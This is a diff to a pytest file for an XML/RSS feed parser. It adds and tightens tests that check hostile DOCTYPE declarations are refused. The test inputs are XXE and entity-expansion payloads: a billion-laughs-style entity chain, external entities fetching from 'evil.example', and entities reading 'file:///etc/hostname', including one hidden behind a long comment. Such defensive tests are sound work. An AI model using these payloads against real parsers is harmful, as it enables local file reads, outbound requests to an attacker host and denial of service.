@@ -132,6 +132,7 @@ def test_a_feed_survives_json(text: str) -> None:
 @pytest.mark.parametrize("declaration", [
     "<!DOCTYPE lolz [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]>",
     "<!DOCTYPE r [<!entity big '" + "x" * 60_000 + "'>]>",
+    "<!DOCTYPE r [<!-- " + "x" * 70_000 + " --><!ENTITY a 'ha'>]>",
     "<!-- --><!DOCTYPE r SYSTEM 'http://evil.example/r.dtd' [ <!ENTITY % p SYSTEM 'http://evil.example/p'> %p; ]>",
 ])  # fmt: skip
 def test_row_42_entities_are_refused(declaration: str) -> None:
@@ -161,8 +162,7 @@ def test_row_43_nothing_outside_the_feed_is_read(tmp_path: Path) -> None:
 def test_row_43_a_declaration_hidden_from_the_first_look_declares_nothing() -> None:
     """The root is looked for behind comments and declarations; what pretends to stand before one is inside the feed."""
     late = "<!-- " + "x" * 70_000 + " --><!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/hostname'>]>"
-    feed = read(late + items("<title>&a;</title><link>/a</link>"))
-    assert [one.title for one in feed.entries] == ["&a;"]
+    assert refused(late + items("<title>&a;</title><link>/a</link>")) is Reason.ENTITY_FORBIDDEN
     inside = "<rss><!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/hostname'>]><channel>"
     with pytest.raises(ListRefused):
         read(inside + "<item><title>&a;</title></item></channel></rss>")
